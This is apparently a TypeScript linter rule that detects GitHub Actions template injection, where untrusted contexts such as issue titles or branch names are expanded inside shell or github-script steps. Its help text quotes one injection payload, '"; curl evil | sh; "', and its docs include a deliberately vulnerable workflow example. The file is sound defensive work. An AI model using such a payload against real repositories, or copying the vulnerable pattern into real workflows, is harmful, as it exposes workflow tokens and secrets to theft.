import { defineRule } from '../../engine/rule.js';
import type { Severity } from '../../engine/severity.js';
import { FormatError } from '../../formats/errors.js';
import { parseUses, workflowOf, type ContextRef, type Field, type Job } from '../../formats/workflow.js';

/**
 * Contexts that someone outside the repository can set, after GitHub Security Lab's list of untrusted inputs
 * ("Keeping your GitHub Actions and workflows secure Part 2", 2021) and GitHub's docs on script injection.
 * `*` stands for one segment (an array index or a map key).
 */
const UNTRUSTED: Array<[string, string]> = [
  ['github.event.issue.title', 'anyone who opens an issue'],
  ['github.event.issue.body', 'anyone who opens an issue'],
  ['github.event.pull_request.title', 'anyone who opens a pull request'],
  ['github.event.pull_request.body', 'anyone who opens a pull request'],
  ['github.event.pull_request.head.ref', 'anyone who opens a pull request'],
  ['github.event.pull_request.head.label', 'anyone who opens a pull request'],
  ['github.event.pull_request.head.repo.default_branch', 'anyone who opens a pull request'],
  ['github.head_ref', 'anyone who opens a pull request'],
  ['github.event.comment.body', 'anyone who can comment'],
  ['github.event.review.body', 'anyone who can review a pull request'],
  ['github.event.review_comment.body', 'anyone who can review a pull request'],
  ['github.event.discussion.title', 'anyone who opens a discussion'],
  ['github.event.discussion.body', 'anyone who opens a discussion'],
  ['github.event.pages.*.page_name', 'anyone who can edit the wiki'],
  ['github.event.commits.*.message', 'the author of a pushed commit'],
  ['github.event.commits.*.author.name', 'the author of a pushed commit'],
  ['github.event.commits.*.author.email', 'the author of a pushed commit'],
  ['github.event.head_commit.message', 'the author of the pushed commit'],
  ['github.event.head_commit.author.name', 'the author of the pushed commit'],
  ['github.event.head_commit.author.email', 'the author of the pushed commit'],
  ['github.event.workflow_run.head_branch', 'whoever opened the pull request that ran the first workflow'],
  ['github.event.workflow_run.head_commit.message', 'whoever opened the pull request that ran the first workflow'],
  ['github.event.workflow_run.head_commit.author.name', 'whoever opened the pull request that ran the first workflow'],
  ['github.event.workflow_run.head_commit.author.email', 'whoever opened the pull request that ran the first workflow'],
];
/** Set by a person or system with some access, but still free text: one level less severe. */
const SEMI_TRUSTED: Array<[string, string]> = [
  ['inputs.*', 'whoever dispatches or calls this workflow'],
  ['github.event.inputs.*', 'whoever dispatches this workflow'],
  ['github.event.client_payload.*', 'whoever sends the repository_dispatch event'],
];

function matches(path: string, pattern: string): boolean {
  const a = path.split('.');
  const b = pattern.split('.');
  // The whole object (`github.event.issue`, `toJSON(github.event)`) contains the untrusted field too.
  const n = Math.min(a.length, b.length);
  if (a.length < b.length && a.length < 2) return false;
  for (let i = 0; i < n; i++) if (b[i] !== '*' && a[i] !== '*' && a[i] !== b[i]) return false;
  return true;
}

const LOWER: Record<Severity, Severity> = { critical: 'high', high: 'medium', medium: 'low', low: 'low' };

function classify(ref: ContextRef, job: Job): { severity: 'full' | 'partial'; who: string } | undefined {
  for (const [pattern, who] of UNTRUSTED) if (matches(ref.path, pattern)) return { severity: 'full', who };
  for (const [pattern, who] of SEMI_TRUSTED) if (matches(ref.path, pattern) && ref.path.includes('.')) return { severity: 'partial', who };
  const [head, key] = ref.path.split('.');
  if (head === 'matrix' && key && (job.dynamicMatrix.has('*') || job.dynamicMatrix.has(key))) {
    return { severity: 'partial', who: 'whoever controls the expression that builds this matrix' };
  }
  return undefined;
}

export default defineRule({
  meta: {
    id: 'workflow/template-injection',
    description: 'An attacker-controllable context is expanded by `${{ }}` inside a shell `run:` or a github-script `script:`.',
    help: [
      'GitHub expands `${{ }}` expressions into the script text before the shell (or JavaScript) runs it. A pull',
      'request title, an issue body or a branch name that contains `"; curl evil | sh; "` becomes code running with',
      "the workflow's token and secrets. In ML repositories these workflows often hold registry, cloud and model-hub",
      'credentials, so one crafted issue title can publish a poisoned model. Findings about contexts anyone can set',
      '(issues, pull requests, comments, commit messages, branch names) take the configured severity; those set by',
      'someone with some access (`inputs.*`, dispatch payloads, a matrix built from an expression) one level less.',
      '',
      '**Remediation**: never expand untrusted contexts inside `run:` or `script:`. Pass the value through an',
      'environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and use it quoted (`"$TITLE"`), or read',
      'it from `context.payload` in github-script.',
    ].join('\n'),
    defaultSeverity: 'high',
    docs: {
      examples: {
        bad: [
          {
            title: 'An issue title is pasted into the shell script',
            lang: 'yaml',
            file: '.github/workflows/triage.yml',
            code: [
              'name: triage',
              'on:',
              '  issues:',
              '    types: [opened]',
              'permissions: {}',
              'jobs:',
              '  label:',
              '    runs-on: ubuntu-latest',
              '    permissions:',
              '      issues: write',
              '    steps:',
              '      - run: |',
              '          echo "New issue: ${{ github.event.issue.title }}"',
            ].join('\n'),
          },
        ],
        good: [
          {
            title: 'The title goes through an environment variable and is used quoted',
            lang: 'yaml',
            file: '.github/workflows/triage.yml',
            code: [
              'name: triage',
              'on:',
              '  issues:',
              '    types: [opened]',
              'permissions: {}',
              'jobs:',
              '  label:',
              '    runs-on: ubuntu-latest',
              '    permissions:',
              '      issues: write',
              '    steps:',
              '      - env:',
              '          TITLE: ${{ github.event.issue.title }}',
              '        run: |',
              '          echo "New issue: $TITLE"',
            ].join('\n'),
          },
        ],
      },
      references: [
        { title: 'GitHub Docs: script injections', url: 'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections' },
        { title: 'zizmor: template-injection audit', url: 'https://docs.zizmor.sh/audits/#template-injection' },
        { title: 'gha-hazmat (the workflow corpus our tests compare with)', url: 'https://github.com/woodruffw/gha-hazmat' },
      ],
    },
    kinds: ['workflow'],
    options: { type: 'object', properties: {}, additionalProperties: false },
    defaultOptions: {},
  },
  async checkFile(ctx) {
    const wf = await workflowOf(ctx);
    if (wf instanceof FormatError) {
      ctx.report({ message: `This workflow could not be parsed (${wf.message}); fix the YAML so that it can be checked.` });
      return;
    }
    for (const job of wf.jobs) {
      for (const step of job.steps) {
        const targets: Array<[Field, string]> = [];
        if (step.run) targets.push([step.run, 'run:']);
        const ref = step.uses ? parseUses(step.uses.value) : undefined;
        if (ref?.owner?.toLowerCase() === 'actions' && ref.repo?.toLowerCase() === 'github-script' && step.with.script) {
          targets.push([step.with.script, 'github-script `script:`']);
        }
        for (const [field, where] of targets) {
          for (const expr of wf.expressions(field)) {
            if (expr.boolean) continue;
            for (const c of expr.contexts) {
              const hit = classify(c, job);
              if (!hit) continue;
              ctx.report({
                message: `\`\${{ ${expr.text} }}\` is expanded inside ${where}; ${hit.who} controls this ${where === 'run:' ? 'shell' : 'script'}: pass it through an environment variable and quote it instead.`,
                severity: hit.severity === 'full' ? ctx.severity : LOWER[ctx.severity],
                line: c.line, column: c.column, endColumn: c.endColumn, keyPath: field.pointer,
                fingerprintKey: `${job.id}\0${c.path}\0${expr.text}`,
              });
            }
          }
        }
      }
    }
  },
});
